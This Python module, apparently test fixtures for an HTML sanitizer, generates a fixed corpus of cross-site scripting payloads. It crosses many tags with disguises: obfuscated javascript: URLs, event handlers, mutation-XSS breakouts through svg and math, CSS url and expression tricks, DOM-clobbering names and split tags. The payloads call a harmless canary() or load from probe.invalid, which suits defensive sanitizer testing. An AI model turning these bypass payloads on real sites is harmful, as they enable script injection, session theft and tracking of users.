"""Hostile HTML made by rule: each family crosses carriers with disguises. What runs calls `canary`, what loads asks a
host below `.invalid`. The list is the same in every run."""
from hostile import EXTEND, JOINER, PREPEND, VARIATION, neighbours

RUN = "canary()"
PROBE = "http://probe.invalid/"


def entities(text, style):
    return "".join(style(ord(c)) for c in text)


def spellings(address):
    """`javascript:…` as parsers are known to read it."""
    scheme, rest = address.split(":", 1)
    return [
        address, address.upper().replace(RUN.upper(), RUN), scheme[0].upper() + scheme[1:] + ":" + rest,
        "&#9;".join(scheme) + ":" + rest, "\t".join(scheme) + ":" + rest, "\n".join(scheme) + ":" + rest,
        "&#10;&#13;" + address, "\x01\x1f " + address, "&#1;" + address, "&nbsp;" + address, "\u2028" + address,
        entities(scheme, "&#{};".format) + ":" + rest, entities(scheme, "&#0000{}".format) + ":" + rest,
        entities(scheme, "&#x{:x};".format) + "&colon;" + rest, scheme + "&colon;" + rest, scheme + "&#58" + rest,
        scheme[:4] + "\0" + scheme[4:] + ":" + rest, scheme[:4] + "&#0;" + scheme[4:] + ":" + rest,
        scheme[:4] + "&Tab;&NewLine;" + scheme[4:] + ":" + rest, scheme + EXTEND + ":" + rest,
        PREPEND + address, scheme + PREPEND + ":" + rest, f"feed:{address}", f"view-source:{address}",
        f"{scheme}://%0a{rest}", f"http:{address}", f"//{address}", f"{scheme}:/*{EXTEND}*/{rest}",
    ]


ADDRESS_CARRIERS = [
    '<a href="{}">x</a>', "<a href={}>x</a>", "<a href='{}'>x</a>", '<a/href="{}"/target=_self>x</a>',
    '<area href="{}">', '<form action="{}"><input type=submit></form>', '<button formaction="{}">x</button>',
    '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>', '<img src="{}">',
    '<body background="{}">', '<table background="{}"><td background="{}">x', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<svg><a href="{}"><text>x</a>',
    '<svg><a xlink:href="{}"><text>x</a>', '<math href="{}"><mi>x', '<frameset><frame src="{}"></frameset>',
    '<p style="background:url({})">x', '<img data-cid="{}">', '<img data-remote-src="{}">', '<q cite="{}">x</q>',
]


def addresses():
    for carrier in ADDRESS_CARRIERS[:6]:
        for spelled in spellings(f"javascript:{RUN}"):
            yield carrier.replace("{}", spelled)
    for carrier in ADDRESS_CARRIERS[6:]:
        for spelled in spellings(f"javascript:{RUN}")[:6]:
            yield carrier.replace("{}", spelled)
        for other in (f"data:text/html,<script>parent.{RUN}</script>", f"vbscript:{RUN}", "data:text/html;base64,PHNjcmlwdD4="):
            yield carrier.replace("{}", other)


def handlers():
    tags = ["img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "details open ontoggle",
            "video src=x onerror", "p onmouseover", "marquee onstart", "a href=http://probe.invalid/ onclick",
            "div style=color:red onpointerenter", "style onload", "math onfocus"]
    for tag in tags:
        for separator in (" ", "/", "\t", "\n", "\f", "\r", f"{PREPEND} ", f" {EXTEND}", "\0"):
            yield f"<{tag.replace(' ', separator)}={RUN}>x"
        for quoted in (f'="{RUN}"', f"='{RUN}'", f"=`{RUN}`", f" = {RUN}", f"&#61;{RUN}", f"={entities(RUN, '&#{};'.format)}"):
            yield f"<{tag}{quoted}>x"
        yield f"<{tag.swapcase()}={RUN}//"
        yield f"<<{tag}={RUN}>>"


CARRIERS = {
    "svg": ("<svg>", "</svg>"), "svg-p": ("<svg></p>", "</svg>"), "foreign": ("<svg><foreignObject>", "</foreignObject></svg>"),
    "desc": ("<svg><desc>", "</desc></svg>"), "math": ("<math>", "</math>"), "mtext": ("<math><mtext>", "</mtext></math>"),
    "glyph": ("<math><mtext><table><mglyph>", "</mglyph></table></mtext></math>"), "form": ("<form><math><mtext></form><form>", "</form>"),
    "annotation": ('<math><annotation-xml encoding="text/html">', "</annotation-xml></math>"),
    "noscript": ("<noscript>", "</noscript>"), "template": ("<template>", "</template>"), "table": ("<table>", "</table>"),
    "select": ("<select>", "</select>"), "option": ("<select><option>", "</select>"), "xmp": ("<xmp>", "</xmp>"),
    "noembed": ("<noembed>", "</noembed>"), "noframes": ("<noframes>", "</noframes>"), "iframe": ("<iframe>", "</iframe>"),
    "plaintext": ("<plaintext>", "</plaintext>"), "listing": ("<listing>", "</listing>"), "head": ("<head>", "</head>"),
    "comment": ("<!--", "-->"), "bogus": ("<!x", ">"), "cdata": ("<svg><![CDATA[", "]]></svg>"), "html-cdata": ("<![CDATA[", "]]>"),
    "nested": ("<div>" * 150, "</div>" * 150), "formatting": ("<b><i><u><a href=http://probe.invalid/>" * 8, "</b></i>"),
    "caption": ("<table><caption>", "</caption></table>"), "button": ("<button><p>", "</button>"),
}
BREAKS = [
    f"<style><a title='</style><img src=x onerror={RUN}>'></style>", f"<title><a id='</title><img src=x onerror={RUN}>'>",
    f"<textarea><a title='</textarea><img src=x onerror={RUN}>'>", f"<a title='--><img src=x onerror={RUN}>'>x</a>",
    f"<p title='</noscript></template></select></xmp><img src=x onerror={RUN}>'>x", f"<img src=x onerror={RUN}>",
    f"<style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>", f"<script>{RUN}</script>",
    f"<mglyph><style></math><img src=x onerror={RUN}>", f"&lt;img src=x onerror={RUN}&gt;",
    f"<path id='</style><img src=x onerror={RUN}>'>", f"</p></br><img/src/onerror={RUN}>",
]


def mutations():
    for opening, closing in CARRIERS.values():
        for inner in BREAKS:
            yield opening + inner + closing
        yield opening + BREAKS[0]
        yield opening.upper() + BREAKS[7] + closing.upper()


def styles():
    spelled = ["url", "URL", "u\\72l", "\\75 rl", "\\000075\\000072\\00006c", "u/**/rl", "ur\\\nl", "u\0rl", "&#117;rl",
               "\uff55\uff52\uff4c", f"u{EXTEND}rl", f"{PREPEND}url", "image-set", "src", "element", "cross-fade", "var(--x,url"]
    for word in spelled:
        for use in ("background:{}({})", "list-style:{}('{}')", "color:red;background-image:{}( \"{}\" )",
                    "content:{}({})", "border-image:{}({}) 1", "cursor:{}({}),auto", "mask:{}({})",
                    "font-family:x;}} * {{background:{}({})", "font-family:'\\';x:{}({});'"):
            yield f"<p style='{use.format(word, PROBE + 's').replace(chr(39), '&#39;')}'>x"
    for text in (f"width:expression({RUN})", f"w\\69 dth:exp/**/ression({RUN})", f"behavior:url({PROBE})", "position:fixed;inset:0",
                 "posi\\74ion:fixed", "position/**/:/**/fixed", "p&#111;sition:fixed", "z-index:99999", "display:none",
                 f"-moz-binding:url({PROBE}x#y)", f"@import '{PROBE}'", f"}}@import url({PROBE});{{", f"--a:url({PROBE})",
                 f"filter:url({PROBE}f#x)", "margin:-99999px", f"src:url({PROBE})", f"shape-outside:url({PROBE})"):
        for tag in ("p", "td", "font", "a href=http://probe.invalid/", "img alt=x"):
            yield f'<{tag} style="{text}">x'
    for inside in (f"@import '{PROBE}';", f"*{{background:url({PROBE})}}", f"</style><img src=x onerror={RUN}>", f"<!--</style><script>{RUN}</script>-->"):
        yield f"<style>{inside}</style>"
        yield f"<STYLE\n>{inside}</STYLE\n>"


def signs():
    """Each sign of markup between neighbours that hide it from code that thinks in graphemes."""
    for sign in "<>\"'&=/ ":
        for near in neighbours(sign):
            yield f"<p title=\"x{near} onmouseover={RUN} x\">y"
            yield f"<p title='x{near}><script>{RUN}</script>'>y"
            yield f"{near}img src=x onerror={RUN}{near}"
            yield f"<img alt=x{near}onerror={RUN} src=x>"
            yield f"<scr{near}ipt>{RUN}</scr{near}ipt>"
            yield f"<script{near}>{RUN}</script{near}>"


def loads():
    for tag in ("img src={}", "img srcset='{} 2x'", "img src=x srcset={}", "img lowsrc={}", "img dynsrc={}", "image src={}",
                "picture><source srcset={}><img", "video src={}", "video poster={}", "audio src={} autoplay", "source src={}",
                "track src={}", "input type=image src={}", "link rel=stylesheet href={}", "link rel=icon href={}",
                "link rel=prefetch href={}", "link rel=preload as=image href={}", "link rel=dns-prefetch href={}",
                "link rel=preconnect href={}", "link rel=manifest href={}", "body background={}", "table background={}",
                "iframe src={}", "iframe srcdoc='&lt;img src={}&gt;'", "embed src={}", "object data={}", "applet code={}",
                "script src={}", "script type=module src={}", "svg><image href={}", "svg><image xlink:href={}",
                "svg><use href={}#x", "svg><feImage href={}", "svg><script href={}", "svg><style>*{{background:url({})}}</style",
                "meta http-equiv=refresh content='0;url={}'", "frameset><frame src={}", "base href={}><img src=y", "xml src={}",
                "bgsound src={}", "layer src={}", "a ping={} href=http://probe.invalid/a", "html manifest={}", "img src=cid:{}",
                "img src=/meja", "img src=x", "img data-cid={}", "portal src={}", "fencedframe src={}"):
        for address in (PROBE + "l", "//probe.invalid/l", "\\\\probe.invalid\\l", "&#104;ttp://probe.invalid/l"):
            yield f"<{tag.format(address)}>"


def names():
    for name in ("body", "forms", "cookie", "getElementById", "attributes", "parentNode", "canary", "location", "__proto__"):
        yield f"<img name={name}><a id={name} href=http://probe.invalid/>x</a><form id={name}><input name={name}></form>"


def tangles():
    """Halves that make a whole when something between them is taken away."""
    for inner in ("<script>", "</script>", "<style></style>", "<!-- -->", "<b></b>", "<svg></svg>", "\0", "<o:p>", "&#0;", JOINER, VARIATION):
        yield f"<scr{inner}ipt>{RUN}</scr{inner}ipt>"
        yield f"<img src=x one{inner}rror={RUN}>"
        yield f"&l{inner}t;script&g{inner}t;{RUN}&lt;/script&gt;"
        yield f"<a href=\"java{inner}script:{RUN}\">x</a>"
        yield f"<<{inner}script>{RUN}<</{inner}script>"


def variants():
    found = {}
    for family in (addresses, handlers, mutations, styles, signs, loads, names, tangles):
        for html in family():
            found.setdefault(html, family.__name__)
    return list(found)
